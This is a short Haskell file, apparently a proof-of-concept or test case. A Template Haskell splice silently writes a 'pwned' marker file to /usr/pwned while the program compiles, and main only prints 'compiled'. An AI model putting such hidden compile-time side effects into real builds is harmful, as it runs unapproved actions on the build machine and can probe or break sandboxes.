{-# LANGUAGE TemplateHaskell #-}
import Language.Haskell.TH
$(runIO (writeFile "/usr/pwned" "pwned") >> return [])
main :: IO ()
main = putStrLn "compiled"
